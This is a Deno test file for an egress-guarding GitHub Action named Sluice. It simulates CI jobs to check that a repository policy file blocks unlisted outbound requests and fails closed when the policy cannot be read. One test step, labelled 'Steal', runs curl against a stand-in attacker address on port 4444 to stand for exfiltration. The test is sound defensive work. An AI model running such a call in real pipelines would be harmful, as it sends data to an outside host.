/** A policy that is a file of the repository, which a checkout brings. */
import assert from "node:assert/strict";
import { WITHOUT_GUARD } from "../../agent/action/outputs.ts";
import { Lab } from "../lab/lab.ts";
import { Ground, SLUICE } from "./ground.ts";
import { installSource } from "./releasing.ts";
import { Services } from "./services.ts";
import { findStep, type JobRun } from "./workflow.ts";

const INPUTS = { "policy-file": ".github/egress.yml" };
const POLICY = "version: 1\negress: block\nallow: [allowed.test]\n";

async function runJob(
  options: { readonly policy: string; readonly inputs?: object },
): Promise<JobRun> {
  await using lab = await Lab.up();
  const services = await Services.up(lab);
  const actionEnvironment = services.environment;
  await using ground = await Ground.up(lab, { actionEnvironment });
  await services.tell(ground);
  await installSource(ground);
  return await ground.run({
    steps: [{
      name: "Check out",
      run: `mkdir -p .github && printf '${
        options.policy.replaceAll("\n", "\\n")
      }' > .github/egress.yml`,
    }, {
      name: "Guard",
      uses: SLUICE,
      with: { ...INPUTS, ...options.inputs },
    }, {
      name: "Fetch",
      run: "curl -sS --max-time 5 https://allowed.test/ > /dev/null",
    }, {
      name: "Steal",
      run: "curl -sS --max-time 5 http://203.0.113.66:4444/",
    }],
  });
}

Deno.test("a job with a policy's file is guarded from its own step on", async () => {
  const job = await runJob({ policy: POLICY });
  const shown = JSON.stringify(job, null, 1);
  const guard = findStep(job, "Guard");
  assert.match(guard.log, /^Sluice guards this job \(block\)/m, shown);
  assert.equal(findStep(job, "Fetch").conclusion, "success", shown);
  assert.equal(findStep(job, "Steal").conclusion, "failure", shown);
  const { log } = findStep(job, "Post Guard");
  assert.match(log, /^Sluice \(block\): 2 endpoints: 1 refused/m, shown);
});

Deno.test("a job whose policy's file cannot be read is red before its next step", async () => {
  const job = await runJob({ policy: "version: 1\nallow: [a:b:c]\n" });
  const shown = JSON.stringify(job, null, 1);
  const [error] = findStep(job, "Guard").commands;
  assert.equal(error?.properties.title, "Sluice cannot guard this job", shown);
  assert.equal(findStep(job, "Steal").conclusion, "skipped", shown);
  assert.equal(job.conclusion, "failure", shown);
});

Deno.test("a job goes on without its policy's file only when it asks to", async () => {
  const job = await runJob({
    policy: "version: 1\nallow: [a:b:c]\n",
    inputs: { "on-failure": "continue" },
  });
  const shown = JSON.stringify(job, null, 1);
  const { commands: [warning], outputs } = findStep(job, "Guard");
  assert.equal(warning?.command, "warning", shown);
  assert.deepEqual(outputs, WITHOUT_GUARD, shown);
  assert.equal(findStep(job, "Steal").conclusion, "success", shown);
});
